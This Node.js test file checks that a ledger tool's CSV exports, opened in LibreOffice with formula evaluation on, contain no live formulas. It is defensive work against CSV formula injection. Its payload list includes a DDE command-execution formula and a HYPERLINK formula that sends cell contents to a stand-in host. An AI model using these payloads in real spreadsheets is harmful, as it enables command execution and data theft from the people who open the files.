// What the command exports as CSV, opened by LibreOffice told to evaluate formulas, with a comma and
// with a semicolon between cells: no cell is a formula. JM216 names the command.
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { basename, join } from 'node:path';
import { test } from 'node:test';
import { fileURLToPath } from 'node:url';

const top = fileURLToPath(new URL('../..', import.meta.url));
const command = process.env.JM216 ?? join(top, 'build/native/jm216');
const shared = process.env.JM216_SHARED ?? join(top, '..', 'shared');
const hasOffice = spawnSync('soffice', ['--version']).status === 0;

const tables = ['quarters', 'rows', 'obligations', 'milestones', 'deadlines', 'findings', 'lines'];

/** Each way to begin what a spreadsheet may take for a formula. */
const formulas = ['=1+1', '+1+1', '-1+1', '@SUM(A1)', '=HYPERLINK("http://a.example/?"&A1,"open")', "=cmd|'/c calc'!A1", '＝1+1'];
const before = ['', ' ', '\u00a0', '\u200b', '\ufeff', '"', '""', '\n', '\r', '\r\n', '\t', ',', ';', '|', 'x,', 'x;', 'x; ', 'x\t', 'x|', 'x\n', 'x"\n', 'x";', 'x,"', 'x;"', '"x";', '";"', "x';"];

/** A ledger whose texts are all of them, line by line. */
function hostileLedger() {
  const texts = before.flatMap((begin) => formulas.map((formula) => begin + formula));
  return {
    title: texts.join(' '),
    as_of: '2009-06-30',
    sales: texts.flatMap((text) => [
      { invoice: text, line: text, date: '2009-02-03', country: 'US', seller: text, product: text, unit: text, quantity: '1', currency: 'USD', gross: '-100.25' },
    ]),
    amendments: texts.map((title) => ({ title, effective: '2002-01-01', changes: { royalty_percent: '8' } })),
    done: texts.map((deadline) => ({ deadline, date: '2008-01-01' })),
    statements: [{ quarter: '2009-Q1', date: '2009-05-04', royalty_usd: '-99.00' }],
  };
}

function csv(...args) {
  const { status, stdout, stderr } = spawnSync(command, [...args, '--format', 'csv'], { maxBuffer: 1 << 28 });
  assert.equal(status, 0, `${args.join(' ')}: ${stderr}`);
  return stdout;
}

/** Every CSV export that there is, by name. */
function exportsInto(folder) {
  const file = (name, value) => {
    writeFileSync(join(folder, name), JSON.stringify(value));
    return join(folder, name);
  };
  const ledger = hostileLedger();
  const mine = file('mine.json', ledger);
  const theirs = file('theirs.json', { ...ledger, title: '=1+1', sales: ledger.sales.slice(9).map((line) => ({ ...line, gross: '-7.5' })), amendments: ledger.amendments.slice(1) });
  const report = JSON.parse(spawnSync(command, ['report', mine], { maxBuffer: 1 << 28 }).stdout);
  const foreign = JSON.parse(JSON.stringify(report), (name, value) => (typeof value === 'string' && name !== 'format' ? `=1+1 ${value}` : value));
  const answer = file('answer.json', { ...foreign, totals: Object.fromEntries(Object.keys(report.totals).map((name, n) => [name, `${before[n]}=1+1`])) });
  const all = new Map();
  for (const table of tables) all.set(`report-${table}`, csv('report', mine, '--table', table));
  for (const table of ['differences', 'facts']) all.set(`compare-${table}`, csv('compare', mine, theirs, '--table', table));
  all.set('answers', csv('compare', mine, answer));
  all.set('answers-turned', csv('compare', answer, mine));
  all.set('statements', csv('compare', '--statements', mine));
  const handed = join(shared, 'faults/hostile');
  if (existsSync(handed)) {
    all.set('handed-answer', csv('compare', join(handed, 'mine.json'), join(handed, 'theirs-formula.report.json')));
    for (const name of ['semicolon', 'esc', 'bidi', 'mirror-root', 'mirror-broken']) {
      for (const table of ['rows', 'lines', 'findings']) all.set(`handed-${name}-${table}`, csv('report', join(handed, `${name}.json`), '--table', table));
    }
  }
  return all;
}

/** The cells that are formulas, by file, when the folder's CSV files are opened. */
function formulasOf(folder, separator) {
  const out = join(folder, `out${separator.charCodeAt(0)}`);
  const files = readdirSync(folder).filter((name) => name.endsWith('.csv'));
  // Separator, quotation mark, UTF-8, from line 1; the last: formulas are evaluated.
  const filter = `CSV:${separator.charCodeAt(0)},34,76,1,,0,false,true,false,false,false,0,true`;
  const { status, stderr } = spawnSync(
    'soffice',
    [`-env:UserInstallation=file://${join(folder, 'profile')}`, '--headless', '--convert-to', 'fods', '--outdir', out, `--infilter=${filter}`,
      ...files.map((name) => join(folder, name))],
    { encoding: 'utf8', maxBuffer: 1 << 28 },
  );
  assert.equal(status, 0, stderr);
  return new Map(files.map((name) => {
    const sheet = readFileSync(join(out, `${basename(name, '.csv')}.fods`), 'utf8');
    assert.match(sheet, /<table:table-cell[^>]*office:value-type/, `${name} came out empty`);
    return [name, [...sheet.matchAll(/table:formula="([^"]*)"/g)].map(([, formula]) => formula)];
  }));
}

test('no cell of a CSV export is a formula', { skip: !hasOffice && 'LibreOffice (libreoffice-calc-nogui) is not installed', timeout: 240_000 }, () => {
  const folder = mkdtempSync(join(tmpdir(), 'jm216-sheets-'));
  try {
    for (const [name, bytes] of exportsInto(folder)) writeFileSync(join(folder, `${name}.csv`), bytes);
    for (const separator of [',', ';']) {
      writeFileSync(join(folder, 'control.csv'), `x${separator}=1+1\r\n`);
      const found = formulasOf(folder, separator);
      assert.deepEqual(found.get('control.csv'), ['of:=1+1']); // formulas are seen where there are any
      found.delete('control.csv');
      assert.ok(found.size >= 12);
      for (const [name, cells] of found) assert.deepEqual(cells, [], `${name}, cells apart by ${separator}`);
    }
  } finally {
    rmSync(folder, { recursive: true });
  }
});
